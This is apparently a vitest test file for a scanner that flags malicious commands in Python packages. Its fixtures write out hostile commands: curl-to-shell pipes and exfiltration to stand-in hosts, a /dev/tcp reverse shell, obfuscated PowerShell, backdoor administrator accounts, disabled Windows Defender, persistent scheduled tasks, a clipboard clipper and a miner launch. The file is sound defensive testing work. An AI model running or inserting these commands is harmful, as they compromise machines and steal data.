import { describe, expect, test } from 'vitest';
import type { Finding } from '../../../src/analysis/report/finding.ts';
import { inspect, python, sdist, wheel } from '../../support/inspect.ts';

test('a download that setup.py pipes into a shell is malware', async () => {
  const file = sdist({
    'setup.py': python(
      'import os',
      'from setuptools import setup',
      "os.system('curl -s https://get.tools.invalid/i | sh')",
      "setup(name='example')",
    ),
  });

  expect(await inspect('shell-payload', file)).toMatchObject([
    { class: 'malware', score: 10, context: 'install', path: 'example-1.0.0/setup.py', line: 3 },
  ]);
});

test('an encoded PowerShell command at import is malware', async () => {
  const encoded = Buffer.from('Write-Output "nothing to see"', 'utf16le').toString('base64');
  const file = wheel({
    'pkg/__init__.py': python('import subprocess', `subprocess.Popen('powershell -w hidden -enc ${encoded}')`),
  });

  expect(await inspect('shell-payload', file)).toMatchObject([
    { class: 'malware', score: 10, context: 'import', path: 'pkg/__init__.py', line: 2 },
  ]);
});

test('compilers, version questions and a shell script of the build are silent', async () => {
  const file = sdist({
    'setup.py': python(
      'import subprocess',
      'from setuptools import setup',
      "subprocess.check_call(['gcc', '-O2', '-c', 'native.c'])",
      "subprocess.check_output('pkg-config --cflags libcurl', shell=True)",
      "subprocess.check_call(['sh', 'configure.sh'])",
      "setup(name='example')",
    ),
    'configure.sh': '#!/bin/sh\nset -e\ncc --version\n',
  });

  expect(await inspect('shell-payload', file)).toEqual([]);
});

test('a shell script of the archive that the command starts is read as part of it', async () => {
  const file = sdist({
    'setup.py': python(
      'import subprocess',
      'from setuptools import setup',
      "subprocess.check_call(['sh', 'configure.sh'])",
      "setup(name='example')",
    ),
    'configure.sh': '#!/bin/sh\nset -e\nbash -i >& /dev/tcp/agent.tools.invalid/4000 0>&1\n',
  });

  expect(await inspect('shell-payload', file)).toMatchObject([
    { class: 'malware', score: 10, path: 'example-1.0.0/setup.py', line: 3 },
  ]);
});

test('a command line from pieces, formats and a decoder is found', async () => {
  const tail = Buffer.from(' | bash').toString('base64');
  const file = wheel({
    'pkg/__init__.py': python(
      'import base64, os as o',
      "tool = 'c' + chr(117) + 'rl'",
      `tail = base64.b64decode('${tail}').decode()`,
      "o.popen('{} -fsSL https://{}/i{}'.format(tool, 'get.tools.invalid', tail))",
    ),
  });

  expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', path: 'pkg/__init__.py', line: 4 }]);
});

test('a script that an import writes and starts is read for what it does', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os',
      "with open('run.bat', 'w') as script:",
      "    script.write('curl https://collector.metrics.invalid/m -o %TEMP%\\\\m\\nstart /B %TEMP%\\\\m')",
      "os.system('start /min run.bat')",
    ),
  });

  expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', score: 10, line: 4 }]);
});

test('the recipe that a build has make run counts, the others of the file do not', async () => {
  const setup = (target: string): string =>
    python('import os', 'from setuptools import setup', `os.system('make ${target}')`, "setup(name='example')");
  const recipes = 'native:\n\tcc -c a.c\n\nfetch:\n\tcurl -s https://collector.metrics.invalid/i | sh\n';

  expect(await inspect('shell-payload', sdist({ 'setup.py': setup('fetch'), Makefile: recipes }))).toMatchObject([
    { class: 'malware', line: 3 },
  ]);
  expect(await inspect('shell-payload', sdist({ 'setup.py': setup('native'), Makefile: recipes }))).toEqual([]);
});

test('an install that ends the session is malware, a function that does is ordinary', async () => {
  const line = "os.system('shutdown /s /t 1')";
  const setup = sdist({
    'setup.py': python('import os', 'from setuptools import setup', line, "setup(name='example')"),
  });
  const module = wheel({ 'pkg/__init__.py': python('import os', 'def off():', `    ${line}`) });

  expect(await inspect('shell-payload', setup)).toMatchObject([{ class: 'malware', score: 10, line: 3 }]);
  expect(await inspect('shell-payload', module)).toEqual([]);
});

test('a curl in a build whose answer goes nowhere is a message; one that fetches a vendor file is not', async () => {
  const setup = (line: string): string =>
    python('import os', 'from setuptools import setup', line, "setup(name='example')");
  const message = sdist({ 'setup.py': setup("os.system('curl https://collector.metrics.invalid/here')") });
  const fetched = sdist({
    'setup.py': setup("os.system('curl -sSLO https://github.com/vendor/data/archive/1.tar.gz')"),
  });

  expect(await inspect('shell-payload', message)).toMatchObject([{ class: 'malware', score: 10 }]);
  expect((await inspect('shell-payload', fetched))[0]?.score ?? 0).toBeLessThan(5);
});

test.each([
  ['an account', "subprocess.run('useradd -m svc && echo svc:x | chpasswd && usermod -aG sudo svc', shell=True)", 10],
  [
    'an account on Windows',
    "subprocess.run('net user helper Inert123! /add & net localgroup administrators helper /add', shell=True)",
    10,
  ],
  [
    'a package of another language by its address',
    "subprocess.Popen('npm install -g https://pkg.tools.invalid/a.tgz', shell=True)",
    10,
  ],
  ['a module that is fetched and run', "subprocess.Popen(['go', 'run', 'go.tools.invalid/agent@latest'])", 6],
  [
    'a clipper',
    "subprocess.Popen(['powershell', '-c', \"while(1){if((Get-Clipboard) -match '^0x'){Set-Clipboard '0x0'}}\"])",
    10,
  ],
])('a command at import for %s is malware', async (_what, line, score) => {
  const file = wheel({ 'pkg/__init__.py': python('import subprocess', line) });

  expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', score }]);
});

test('builds with Go and npm, tools from a code host, and accounts that a tool of operators makes are silent', async () => {
  const file = sdist({
    'setup.py': python(
      'import subprocess',
      'from setuptools import setup',
      "subprocess.check_call(['go', 'build', './...'])",
      "subprocess.check_call(['npm', 'install'])",
      "subprocess.check_call('cargo install --git https://github.com/example-owner/tool', shell=True)",
      "setup(name='example')",
    ),
    'pkg/__init__.py': python('import subprocess', 'def add(name):', "    subprocess.run(['useradd', '-m', name])"),
  });

  expect(await inspect('shell-payload', file)).toEqual([]);
});

describe('a command put together out of the names around it', () => {
  const fetching = (address: string): string =>
    python(
      'import os, subprocess',
      'def fetch(url, target):',
      "    command = ['powershell', '-Command', '(new-object System.Net.WebClient).DownloadFile(%(url)r, %(target)r)' % vars()]",
      '    subprocess.check_call(command)',
      `fetch('${address}', 'setuptools-2.0.tar.gz')`,
      'from setuptools import setup',
      "setup(name='example')",
    );

  test('is read with them, quotes and all', async () => {
    const file = sdist({ 'setup.py': fetching('https://cdn.tools.invalid/a.tar.gz') });

    expect(await inspect('shell-payload', file)).toMatchObject([
      {
        class: 'malware',
        context: 'install',
        decoded:
          "powershell -Command (new-object System.Net.WebClient).DownloadFile('https://cdn.tools.invalid/a.tar.gz', 'setuptools-2.0.tar.gz')",
      },
    ]);
  });

  test.each([
    ['https://pypi.python.org/packages/source/s/setuptools/setuptools-2.0.tar.gz', 'suspicious'],
    ['https://bootstrap.pypa.io/ez_setup.py', 'suspicious'],
    ['https://pypi.python.org/packages/source/s/setuptools-tools/setuptools-2.0.tar.gz', 'malware'],
    ['https://pypi.python.org.mirror.invalid/packages/source/s/setuptools/setuptools-2.0.tar.gz', 'malware'],
  ])('weighs little where it fetches setuptools alone: %s', async (address, expected) => {
    const found = await inspect('shell-payload', sdist({ 'setup.py': fetching(address) }));
    const atInstall = found.find(({ context }) => context === 'install');

    expect(atInstall?.class).toBe(expected);
    if (expected === 'suspicious') expect(found.every(({ score }) => score < 5)).toBe(true);
  });
});

test.each([
  ['https://get.vendor-tools.com/install.sh', 4],
  ['https://astral.sh/uv/install.sh', 3],
  ['https://storage.googleapis.com/a/install.sh', 5],
  ['http://get.vendor-tools.com/install.sh', 5],
  ['https://203.0.113.9/install.sh', 10],
  ['https://pastebin.com/raw/abc', 10],
])('an installer that a person starts, fetched from %s', async (address, score) => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os',
      'def install_runner():',
      `    os.system('curl -fsSL ${address} | sudo bash')`,
    ),
  });

  expect(await inspect('shell-payload', file)).toMatchObject([{ context: 'call', score }]);
});

test('the installer of a house with a name, piped into a shell when somebody asks for it, stays below quarantine', async () => {
  const of = (address: string): Promise<readonly Finding[]> =>
    inspect(
      'shell-payload',
      wheel({
        'pkg/tools.py': python(
          'import subprocess',
          'def install():',
          `    subprocess.run('curl -LsSf ${address} | sh', shell=True, check=True)`,
        ),
      }),
    );

  expect(await of('https://sh.rustup.rs')).toMatchObject([{ score: 3 }]);
  expect(await of('https://tools.vendor.invalid/install.sh')).toMatchObject([{ score: 4 }]);
  for (const address of [
    'http://sh.rustup.rs',
    'https://raw.githubusercontent.com/a/b/main/i.sh',
    'https://203.0.113.8/i.sh',
  ])
    expect((await of(address))[0]?.score).toBeGreaterThanOrEqual(5);
});

test('a page that a person is shown by rundll32 is no installer from the network', async () => {
  const shown = (dll: string): string =>
    python(
      'import subprocess',
      'def login():',
      `    subprocess.Popen(['rundll32', '${dll}', 'https://id.vendor.invalid/login'])`,
    );

  expect(await inspect('shell-payload', wheel({ 'pkg/__init__.py': shown('url.dll,FileProtocolHandler') }))).toEqual(
    [],
  );
  expect(
    await inspect('shell-payload', wheel({ 'pkg/__init__.py': shown('pcwutl.dll,LaunchApplication') })),
  ).toMatchObject([{ class: 'malware', context: 'call' }]);
});

test('a table of jobs that is listed is not changed', async () => {
  const of = (command: string): Promise<readonly Finding[]> =>
    inspect(
      'shell-payload',
      wheel({ 'pkg/__init__.py': python('import os', 'def jobs(path):', `    return os.popen(${command}).read()`) }),
    );

  expect(await of("'crontab -l'")).toEqual([]);
  expect(await of("'crontab -u root -l'")).toEqual([]);
  for (const command of [
    '\'(crontab -l; echo "@reboot /opt/a") | crontab -\'',
    "'crontab -u root -'",
    "'crontab -r'",
    "'crontab /tmp/jobs'",
    '\'echo "@reboot /opt/a" | crontab\'',
    "'crontab ' + path",
  ])
    expect(await of(command), command).toMatchObject([{ class: 'malware', score: 4 }]);
});

test('a file of data that a call fetches from a place for files is told, a program or something that is sent along is held', async () => {
  const of = (command: string): Promise<readonly Finding[]> =>
    inspect(
      'shell-payload',
      wheel({ 'pkg/__init__.py': python('import os', 'def fetch(root):', `    os.system(${command})`) }),
    );

  for (const command of [
    "f'wget https://docs.google.com/uc?id=1 -O {root}/counts.h5ad'",
    "'curl -L https://sets.s3.amazonaws.com/a -o data/a.csv'",
  ])
    expect(await of(command), command).toMatchObject([{ class: 'suspicious', score: 3 }]);
  for (const command of [
    "'curl -L https://sets.s3.amazonaws.com/a -o a.sh'",
    "'curl -L https://sets.s3.amazonaws.com/a -o a'",
    "'curl -L https://203.0.113.8/a -o a.csv'",
    "'curl -d @notes https://drop.onrender.com/a -o a.csv'",
    "'curl -X POST https://drop.onrender.com/a -o a.csv'",
  ])
    expect(await of(command), command).toMatchObject([{ class: 'malware', score: 5 }]);
});

test('a file of data that an import fetches from a place for files is still held', async () => {
  const file = wheel({
    'pkg/__init__.py': python('import os', "os.system('curl -L https://sets.s3.amazonaws.com/a -o a.csv')"),
  });

  expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', score: 10 }]);
});

test.each([
  ['curl -s http://203.0.113.8/a.sh | bash', 10],
  ['wget -q https://pastebin.com/raw/abcd1234 -O /tmp/a; chmod +x /tmp/a; /tmp/a', 10],
  ['powershell -nop -c "iex (iwr http://203.0.113.8/a.ps1)"', 10],
  ['curl -sSL https://get.tools.invalid/a.sh | bash', 4],
])('what a function fetches and runs is judged by whose host it is: %s', async (line, score) => {
  const file = wheel({
    'pkg/__init__.py': python('import os', 'def update():', `    os.system(${JSON.stringify(line)})`),
  });

  expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', score, context: 'call' }]);
});

test('what a tool sends is called sending, and what it fetches a download', async () => {
  const calling = (line: string): Promise<readonly Finding[]> =>
    inspect(
      'shell-payload',
      wheel({ 'pkg/__init__.py': python('import os', 'def run():', `    os.system('${line}')`) }),
    );

  expect(await calling('curl -F file=@notes.txt https://box.vendor.invalid/up')).toMatchObject([
    { message: 'Sends something to box.vendor.invalid by a program of the system.' },
  ]);
  expect(await calling('curl https://box.vendor.invalid/a.zip -o a.zip')).toMatchObject([
    { message: 'Starts a download from box.vendor.invalid.' },
  ]);
});

test('of several things that a line does the worst is told: a hidden window, and a task that starts again', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import subprocess',
      `subprocess.run('schtasks /create /f /sc minute /tn Update /tr "powershell -w hidden -f C:\\\\a.ps1"', shell=True)`,
    ),
  });

  expect(await inspect('shell-payload', file)).toMatchObject([
    { class: 'malware', score: 10, context: 'import', message: 'Sets something up that starts again by itself.' },
  ]);
});

test('a recipe of another folder is read where `make -C` starts it, and so is what it tells of the machine', async () => {
  const native = (recipe: string): ReturnType<typeof sdist> =>
    sdist({
      'setup.py': python(
        'import subprocess',
        "subprocess.call(['make', '-C', 'native', 'all'])",
        'from setuptools import setup',
        "setup(name='example')",
      ),
      'native/Makefile': `clean:\n\trm -f x.so\nall:\n\t${recipe}\n\t@cc -shared -o x.so x.c\n`,
      'native/x.c': 'int x(){return 1;}\n',
    });

  expect(
    await inspect('shell-payload', native('@curl -s -d "`id;hostname;env`" http://203.0.113.7/m || true')),
  ).toMatchObject([{ class: 'malware', score: 10, context: 'install', path: 'example-1.0.0/setup.py', line: 2 }]);
  expect(await inspect('shell-payload', native('@curl -sL https://203.0.113.7/x.tgz -o x.tgz'))).toEqual([]);
  expect(await inspect('shell-payload', native('@echo building as `whoami`'))).toEqual([]);
});

test('what is cloned into a hidden folder and started from there is malware in a build, what is cloned beside it is held', async () => {
  const build = (line: string): ReturnType<typeof sdist> =>
    sdist({
      'setup.py': python('import os', `os.system('${line}')`, 'from setuptools import setup', "setup(name='a')"),
    });

  expect(
    await inspect(
      'shell-payload',
      build('git clone -q https://github.com/example/x /tmp/.x && cd /tmp/.x && python3 main.py &'),
    ),
  ).toMatchObject([{ class: 'malware', score: 9, context: 'install', line: 2 }]);
  expect(
    await inspect('shell-payload', build('git clone https://github.com/example/x vendor && bash vendor/prepare.sh')),
  ).toMatchObject([{ class: 'suspicious', score: 5 }]);
});

test('a program that mines for an account in the code is malware on call, whatever it is called', async () => {
  const wallet = `4${'B'.repeat(94)}`;
  const model = (account: string): string =>
    python(
      'import subprocess',
      'class Model:',
      '    def __init__(self, account=None):',
      `        subprocess.Popen(['/tmp/runner', '-u', ${account}, '-o', 'pool.collector.invalid:8080', '-k'])`,
    );

  expect(await inspect('shell-payload', wheel({ 'pkg/a.py': model(`'${wallet}'`) }))).toMatchObject([
    { class: 'malware', score: 10, context: 'call', line: 4 },
  ]);
  expect(await inspect('shell-payload', wheel({ 'pkg/a.py': model('account') }))).toEqual([]);
});

test('a program that asks for the rights of an administrator when it is imported is told, and read as what it starts', async () => {
  const file = (line: string): ReturnType<typeof wheel> =>
    wheel({ 'pkg/__init__.py': python('import ctypes, sys', line) });
  const raised = await inspect(
    'shell-payload',
    file("ctypes.windll.shell32.ShellExecuteW(None, 'runas', sys.executable, __file__, None, 0)"),
  );
  const opened = await inspect(
    'shell-payload',
    file("ctypes.windll.shell32.ShellExecuteW(None, 'open', 'mshta', 'https://stage.metrics.invalid/a.hta', None, 0)"),
  );

  expect(raised).toMatchObject([{ score: 6, context: 'import', line: 2 }]);
  expect(raised[0]?.message).toBe('Starts a program with the rights of an administrator.');
  expect(opened).toMatchObject([{ class: 'malware', score: 10 }]);
  expect(
    await inspect(
      'shell-payload',
      file("def edit(path): ctypes.windll.shell32.ShellExecuteW(None, 'runas', 'notepad.exe', path, None, 1)"),
    ),
  ).toEqual([]);
});

test.each([
  'sc stop WinDefend & sc config WinDefend start= disabled',
  'net stop MpsSvc',
  'powershell Stop-Service -Name WinDefend',
])('a guard of Windows that is stopped by an import: %s', async (line) => {
  const file = wheel({ 'pkg/__init__.py': python('import os', `os.system('${line}')`) });

  expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', score: 10, line: 2 }]);
});

test('look-alike: a service of the program’s own', async () => {
  const file = wheel({ 'pkg/__init__.py': python('import os', "os.system('sc stop ExampleAgent')") });

  expect(await inspect('shell-payload', file)).toEqual([]);
});

test('the system function of a library that cffi opens starts a shell', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'from cffi import FFI',
      'ffi = FFI()',
      "ffi.cdef('int system(const char*);')",
      "ffi.dlopen(None).system(b'curl -s https://stage.metrics.invalid/a | sh')",
    ),
  });

  expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', score: 10, line: 4 }]);
});
